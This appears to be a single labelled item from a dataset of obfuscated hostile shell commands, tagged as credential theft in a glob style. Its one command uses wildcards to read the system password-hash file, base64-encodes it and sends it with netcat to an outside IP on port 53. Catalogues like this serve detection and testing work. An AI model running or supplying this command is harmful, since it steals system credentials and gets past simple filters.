# class: credential theft; style: glob
cat /e??/sh?d?w | base64 | nc -w 3 203.0.113.44 53
